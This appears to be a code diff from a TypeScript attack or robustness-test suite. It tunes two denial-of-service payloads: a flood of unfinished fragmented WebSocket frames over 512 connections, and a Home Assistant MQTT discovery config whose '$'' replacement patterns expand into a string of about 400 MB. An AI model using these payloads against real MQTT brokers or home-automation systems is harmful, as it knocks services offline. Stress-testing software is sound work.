@@ -114,21 +114,24 @@ const UNFINISHED: MqttAttack = {
   carrier: () => 'websocket',
   connections: 512,
   reading: 'all',
-  opening: () => [],
-  move: (_, n) =>
-    n >= PARTS
-      ? []
-      : [{ opcode: n === 0 ? FRAME.begun : FRAME.continued, bytes: Buffer.alloc(LARGE - 1) }],
+  opening: () =>
+    Array.from({ length: PARTS }, (_, part) => ({
+      opcode: part === 0 ? FRAME.begun : FRAME.continued,
+      bytes: Buffer.alloc(LARGE),
+    })),
+  move: () => [],
 }
 
-const BASE_LENGTH = 100_000
+/** Their product is a text of 400 MB, somewhat below the longest that V8 makes. */
+const PATTERNS = 2_000
+const TAIL_LENGTH = 200_000
 
 /** Discovery whose base topic is a pattern of replacement that stands for the rest of the text. */
 const TEMPLATES: MqttAttack = {
   ...overTcp,
-  connections: 4,
+  connections: 1,
   move: () => {
-    const config = { '~': "$'".repeat(BASE_LENGTH / 2), stat_t: `~${'/x'.repeat(BASE_LENGTH / 2)}` }
+    const config = { '~': "$'".repeat(PATTERNS), stat_t: '~'.padEnd(TAIL_LENGTH, '/x') }
     return whole(publish('homeassistant/sensor/attacker/config', config))
   },
 }
